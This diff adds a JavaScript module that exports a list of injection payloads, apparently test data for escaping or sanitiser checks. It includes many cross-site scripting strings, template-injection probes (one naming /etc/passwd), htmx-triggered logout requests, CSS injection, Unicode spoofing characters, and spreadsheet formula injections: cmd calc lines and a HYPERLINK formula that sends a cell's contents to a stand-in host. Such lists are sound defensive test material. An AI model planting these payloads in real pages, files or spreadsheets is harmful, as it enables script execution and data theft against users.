@@ -1,0 +1,85 @@
+// Texts that want to be more than text: markup, script, addresses, templates, styles, formulas.
+const UNUSUAL = String.fromCodePoint;
+
+export const PAYLOADS = [
+    // elements
+    '<script>alert(1)</script>',
+    '<ScRiPt >alert(1)</sCrIpT>',
+    '<script src=//127.0.0.1/x.js></script>',
+    '<scr<script>ipt>alert(1)</scr</script>ipt>',
+    '</title></textarea></pre><script>alert(1)</script>',
+    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+    '<object data="data:text/html,<script>alert(1)</script>"></object>',
+    '<embed src=javascript:alert(1)>',
+    '<base href="//127.0.0.1/">',
+    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+    '<link rel=stylesheet href=//127.0.0.1/x.css>',
+    '<form action=//127.0.0.1/><input name=csrf><button>Log in</button>',
+    '<template><img src=x onerror=alert(1)></template>',
+    '<dialog open id=popup>Refund 1.00 INR</dialog>',
+    // events
+    '<img src=x onerror=alert(1)>',
+    '<body onload=alert(1)>',
+    '<details open ontoggle=alert(1)><summary>x</summary></details>',
+    '<input autofocus onfocus=alert(1)>',
+    '<a href="#" onmouseover=alert(1) style=position:fixed;inset:0>x</a>',
+    '<video><source onerror="alert(1)"></video>',
+    // svg, and markup that changes its meaning when it is parsed again
+    '<svg onload=alert(1)>',
+    '<svg><script>alert&#40;1)</script></svg>',
+    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    // out of an attribute
+    '" onmouseover="alert(1)" x="',
+    "' onmouseover='alert(1)' x='",
+    '` onmouseover=`alert(1)` x=`',
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    '" autofocus onfocus=alert(1) tabindex=1 "',
+    '\\"><script>alert(1)</script>',
+    '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;',
+    '&#x22;&#62;&#60script&#62;alert(1)',
+    // addresses
+    'javascript:alert(document.domain)',
+    'JaVaScRiPt&colon;alert(1)',
+    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+    '//127.0.0.1/%2e%2e/?q=<b>&x=1#"',
+    // templates and comments
+    '<?cs var:csrf ?>',
+    '<?cs include:"/etc/passwd" ?><?cs linclude:x ?>',
+    '?><?cs evar:title ?><?cs alt:x ?>y<?cs /alt ?>',
+    '{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% x %}',
+    '<!-- --><!--',
+    '--><script>alert(1)</script><!--',
+    '<![CDATA[<script>alert(1)</script>]]>',
+    // htmx
+    '<b hx-get="/logout" hx-trigger="load">x</b>',
+    '<b hx-on:htmx:load="alert(1)" data-hx-post="/logout">x</b>',
+    '" hx-get="/help" hx-trigger="load" hx-target="body" x="',
+    '<b data-popup href=/help data-rest=9>x</b>',
+    // styles
+    '<style>*{display:none}</style>',
+    '</style><style>@import "//127.0.0.1/x.css";',
+    'x:expression(alert(1));background:url(javascript:alert(1))',
+    // letters that look like others, turn the line round, or are not seen
+    `${UNUSUAL(0xff1c)}script${UNUSUAL(0xff1e)}alert(1)${UNUSUAL(0xff1c)}/script${UNUSUAL(0xff1e)}`,
+    `abc${UNUSUAL(0x202e)}>tpircs<${UNUSUAL(0x202c)}def`,
+    `${UNUSUAL(0x2066)}${UNUSUAL(0x5d0, 0x5d1, 0x5d2)}${UNUSUAL(0x2069)} ${UNUSUAL(0x627, 0x644)}`,
+    `line${UNUSUAL(0x2028)}alert(1)${UNUSUAL(0x2029)}end${UNUSUAL(0x85)}`,
+    `z${UNUSUAL(0x200b)}w${UNUSUAL(0x200d)}j${UNUSUAL(0xfeff)}b`,
+    `${UNUSUAL(0x1f4b8)}${UNUSUAL(0x1d51e)}e${UNUSUAL(0x301, 0x300, 0x302, 0x303, 0x30a, 0x323)}`,
+    '<img src=x onerror=\\u0061lert(1)>\\x3cscript\\x3e',
+    // what is often taken for nothing
+    'null',
+    'undefined',
+    '%00%0a<b>\\0\\u0000',
+    '__proto__',
+    '[object Object]',
+    // formulas
+    '=HYPERLINK("http://127.0.0.1/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1+1)*cmd|" /C calc"!A0',
+];
